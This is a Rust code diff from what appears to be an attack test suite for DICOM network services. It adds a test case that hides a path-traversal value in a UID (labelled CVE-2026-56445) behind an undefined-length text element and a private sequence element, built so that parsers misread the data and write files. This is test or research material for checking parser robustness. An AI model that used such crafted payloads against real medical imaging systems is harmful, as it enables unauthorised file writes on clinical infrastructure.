@@ -195,6 +195,10 @@ rows! {
     qrscp_path_in_hidden_elements: Qrscp, "path in a UID (CVE-2026-56445)",
         "Explicit VR in a context of Implicit VR", Harm::Writes, ("unsound", "mistakable-vr"),
         |called| store(called, IMPLICIT, &path_as_unknown());
+    qrscp_path_behind_an_undefined_text: Qrscp, "path in a UID (CVE-2026-56445)",
+        "the same in what a text of undefined length holds for others", Harm::Writes,
+        ("unsound", "undefined-length"),
+        |called| store(called, IMPLICIT, &path_behind_an_undefined_text());
 
     storescp_repeated_identity: Storescp, "leak in association requests (CVE-2026-50254)",
         "requests with four user identities", LEAKED, ("refused", "second-user-identity"),
@@ -385,6 +389,17 @@ fn second_uid() -> Vec<u8> {
     [instance(INSTANCE), path, study()].concat()
 }
 
+/// A reader that goes by the dictionary ends the text at the first delimiter and reads on behind it;
+/// all that is the value of a private element for one that opens a sequence.
+fn path_behind_an_undefined_text() -> Vec<u8> {
+    let ends = [ITEM_END, SEQUENCE_END].concat();
+    let covering_both = [little((0x0042, 0x0011)).as_slice(), &[16, 0, 0, 0]].concat();
+    let path = element((0x0008, 0x0018), ESCAPED.as_bytes());
+    let hidden = element((0x0009, 0x1010), &[SEQUENCE_END, &path, &covering_both].concat());
+    let text = [little((0x4008, 0x0300)).as_slice(), &[0xff; 4], ITEM_OPEN].concat();
+    [instance(INSTANCE), study(), text, hidden, ends].concat()
+}
+
 fn half(called: &str) -> Attack {
     let request = Associate::echo("CT1", called).encode()[..60].to_vec();
     Attack { request, behind: Vec::new(), rounds: 1 }
@@ -464,6 +479,8 @@ fn in_vendor_sequence() -> Vec<u8> {
 }
 
 const ITEM_OPEN: &[u8] = b"\xfe\xff\x00\xe0\xff\xff\xff\xff";
+const ITEM_END: &[u8] = b"\xfe\xff\x0d\xe0\0\0\0\0";
+const SEQUENCE_END: &[u8] = b"\xfe\xff\xdd\xe0\0\0\0\0";
 
 fn text(tag: (u16, u16)) -> Vec<u8> {
     explicit_element(tag, *b"LO", "abcd")
